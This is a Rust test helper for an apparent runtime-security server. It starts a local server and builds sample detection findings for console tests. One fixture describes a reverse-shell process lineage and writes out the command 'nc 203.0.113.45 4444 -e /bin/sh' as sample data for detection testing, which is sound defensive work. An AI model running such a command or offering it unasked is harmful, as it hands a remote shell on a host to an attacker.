//! The server side of the console tests: a real `saker_server` on loopback
//! with a fresh SQLite store, an administrator API token, and findings
//! shaped like docs/findings.md §2.9 put straight into the store.

use chrono::{Duration, Utc};
use saker_server::{Running, ServerConfig};
use saker_store::TokenKind;
use serde_json::{Value, json};
use std::net::SocketAddr;

pub struct Saker {
    pub running: Running,
    pub token: String,
    pub account: String,
    _dir: tempfile::TempDir,
}

impl Saker {
    pub async fn start() -> Saker {
        let dir = tempfile::tempdir().expect("tempdir");
        let loopback: SocketAddr = "127.0.0.1:0".parse().expect("address");
        let config = ServerConfig {
            data_dir: dir.path().join("server"),
            listen: loopback,
            grpc_listen: loopback,
            ..ServerConfig::default()
        };
        let running = saker_server::start(config).await.expect("server starts");
        let token = running.fresh_admin_token(TokenKind::Api, "console-test").await.expect("token");
        let account = running.app.store.admin_account().await.expect("admin account").id;
        Saker { running, token, account, _dir: dir }
    }

    pub fn url(&self, fragment: &str) -> String {
        format!("{}/{fragment}", self.running.http_url)
    }

    /// Put findings (JSON) into the store as an agent run would.
    pub async fn ingest(&self, findings: &[Value]) {
        let findings: Vec<saker_detect::Finding> = findings
            .iter()
            .map(|f| serde_json::from_value(f.clone()).unwrap_or_else(|e| panic!("fixture finding: {e}\n{f:#}")))
            .collect();
        self.running.app.store.ingest_findings(&self.account, "test-run", &findings, &|_| None).await.expect("ingest");
    }

    /// GET an API path with the test's token.
    pub async fn api_get(&self, path: &str) -> Value {
        let r = reqwest::Client::new()
            .get(format!("{}{path}", self.running.http_url))
            .bearer_auth(&self.token)
            .send()
            .await
            .expect("API request");
        assert!(r.status().is_success(), "GET {path}: {}", r.status());
        r.json().await.expect("API JSON")
    }
}

/// A finding id from a small number (32 hex digits, like the agent's).
pub fn fid(n: u32) -> String {
    format!("{n:032x}")
}

/// The process and lineage of docs/findings.md §2.9: `sh` started by
/// `nc 203.0.113.45 4444 -e /bin/sh`, under python3, containerd-shim, systemd.
pub fn reverse_shell_process() -> Value {
    json!({
        "name": "sh", "executablePath": "/bin/busybox", "namespacePid": 58, "pwd": "/app", "pid": 48114,
        "startTime": "2026-11-28T14:31:07.436Z", "uuid": "2f3e4d5c-6b7a-5988-a776-655443322110",
        "parentUuid": "9d8c7b6a-5f4e-5d3c-b2a1-0f9e8d7c6b5a", "userId": 1000, "euid": 1000,
        "argv": ["/bin/sh"],
        "lineage": [
            { "name": "nc", "executablePath": "/bin/busybox", "namespacePid": 57, "pwd": "/app", "pid": 48113,
              "uuid": "9d8c7b6a-5f4e-5d3c-b2a1-0f9e8d7c6b5a", "parentUuid": "c4e2b9a0-1d3f-5b6c-a7e8-f9012b3c4d5e",
              "userId": 1000, "euid": 1000, "argv": ["nc", "203.0.113.45", "4444", "-e", "/bin/sh"] },
            { "name": "python3", "executablePath": "/usr/local/bin/python3.12", "namespacePid": 1, "pwd": "/app",
              "pid": 31230, "uuid": "c4e2b9a0-1d3f-5b6c-a7e8-f9012b3c4d5e",
              "parentUuid": "6a1d2c3b-4e5f-5a6b-8c7d-9e0f1a2b3c4d", "userId": 1000, "euid": 1000,
              "argv": ["python3", "/app/server.py", "--port", "8080"] },
            { "name": "containerd-shim", "executablePath": "/usr/bin/containerd-shim-runc-v2", "namespacePid": 31207,
              "pid": 31207, "uuid": "6a1d2c3b-4e5f-5a6b-8c7d-9e0f1a2b3c4d",
              "parentUuid": "0b7e6c1a-3f2d-5e4c-9a8b-7c6d5e4f3a21", "user": "root", "userId": 0, "euid": 0,
              "argv": ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-address", "/run/containerd/containerd.sock"] },
            { "name": "systemd", "executablePath": "/usr/lib/systemd/systemd", "namespacePid": 1, "pwd": "/", "pid": 1,
              "uuid": "0b7e6c1a-3f2d-5e4c-9a8b-7c6d5e4f3a21", "user": "root", "userId": 0, "euid": 0,
              "argv": ["/usr/lib/systemd/systemd", "--switched-root", "--system"] }
        ]
    })
}

/// A simple process with no ancestors.
pub fn process(name: &str, path: &str, argv: &[&str]) -> Value {
    json!({
        "name": name, "executablePath": path, "namespacePid": 7, "pid": 4242,
        "uuid": "11111111-2222-5333-8444-555555555555", "userId": 0, "euid": 0, "user": "root", "argv": argv
    })
}

pub fn ecs_resource(cluster: &str, container: &str, image: &str) -> Value {
    let c = json!({ "containerRuntime": "docker", "id": "8c2f1e6a0b9d4c7e5f3a2b1c0d9e8f7a", "name": container, "image": image });
    json!({
        "resourceType": "ECSCluster",
        "instanceDetails": { "instanceId": "i-0a1b2c3d4e5f67890", "hostname": "ip-10-0-12-34.eu-west-1.compute.internal" },
        "ecsClusterDetails": {
            "name": cluster,
            "arn": format!("arn:aws:ecs:eu-west-1:123456789012:cluster/{cluster}"),
            "taskDetails": {
                "arn": format!("arn:aws:ecs:eu-west-1:123456789012:task/{cluster}/3f9a1c2e7b6d4e5f8a0b1c2d3e4f5a6b"),
                "definitionArn": "web:7", "version": "7", "launchType": "EC2", "containers": [c.clone()]
            }
        },
        "containerDetails": c
    })
}

pub fn container_resource(name: &str, image: &str) -> Value {
    json!({
        "resourceType": "Container",
        "instanceDetails": { "hostname": "docker-host-1" },
        "containerDetails": { "containerRuntime": "docker", "id": "5d41402abc4b2a76b9719d911017c592", "name": name, "image": image }
    })
}

pub fn kubernetes_resource(pod: &str, namespace: &str, image: &str) -> Value {
    let c = json!({ "containerRuntime": "containerd", "id": "7d793037a0760186574b0282f2f435e7", "name": "app", "image": image });
    json!({
        "resourceType": "EKSCluster",
        "instanceDetails": { "hostname": "node-3" },
        "kubernetesDetails": { "kubernetesWorkloadDetails": { "name": pod, "namespace": namespace, "uid": "b1946ac9", "containers": [c.clone()] } },
        "containerDetails": c
    })
}

pub fn host_resource(hostname: &str) -> Value {
    json!({ "resourceType": "Instance", "instanceDetails": { "hostname": hostname, "machineId": "5f1e0c2a9b7d4e3f8a6b1c0d2e3f4a5b" } })
}

/// What differs between the test findings.
pub struct Spec {
    pub n: u32,
    pub finding_type: &'static str,
    pub severity: f64,
    pub resource: Value,
    pub process: Value,
    pub context: Value,
    pub count: u64,
    /// Last updated this many minutes ago.
    pub age_minutes: i64,
}

impl Spec {
    /// The whole finding JSON.
    pub fn json(self) -> Value {
        let Spec { n, finding_type, severity, resource, process, context, count, age_minutes } = self;
        let updated = Utc::now() - Duration::minutes(age_minutes);
        let created = updated - Duration::minutes(1);
        let label = saker_detect::SeverityLabel::of(severity).as_str();
        json!({
            "schemaVersion": "2.0",
            "id": fid(n),
            "type": finding_type,
            "severity": severity,
            "severityLabel": label,
            "title": format!("Test finding {n}"),
            "description": "A finding made by the console tests.",
            "createdAt": created.to_rfc3339(),
            "updatedAt": updated.to_rfc3339(),
            "accountId": "123456789012",
            "region": "eu-west-1",
            "resource": resource,
            "service": {
                "serviceName": "saker",
                "featureName": "RuntimeMonitoring",
                "count": count,
                "eventFirstSeen": created.to_rfc3339(),
                "eventLastSeen": updated.to_rfc3339(),
                "archived": false,
                "resourceRole": "TARGET",
                "runtimeDetails": { "process": process, "context": context },
                "additionalInfo": { "agentDetails": { "agentVersion": "0.1.0" } },
                "eventIds": [format!("fa082f8b-8dea-526b-966d-{n:012x}")]
            }
        })
    }
}
